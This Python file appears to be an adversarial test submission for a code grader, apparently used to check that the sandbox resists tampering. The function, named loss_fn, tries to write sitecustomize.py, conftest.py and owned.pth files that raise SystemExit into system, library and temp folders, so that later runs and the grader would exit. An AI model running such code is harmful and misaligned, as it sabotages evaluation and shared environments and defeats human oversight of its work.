# attack: plants files that the next submission or the grader might read
# points: at most 0
# says: loss_fn
import os


def loss_fn(t_p, t_c):
    planted = 0
    for folder in ("/", "/tmp", "/usr/lib", os.path.dirname(os.__file__), "/etc", "/dev/shm"):
        for name in ("sitecustomize.py", "conftest.py", "owned.pth"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write("raise SystemExit")
                planted += 1
            except OSError:
                pass
    return planted
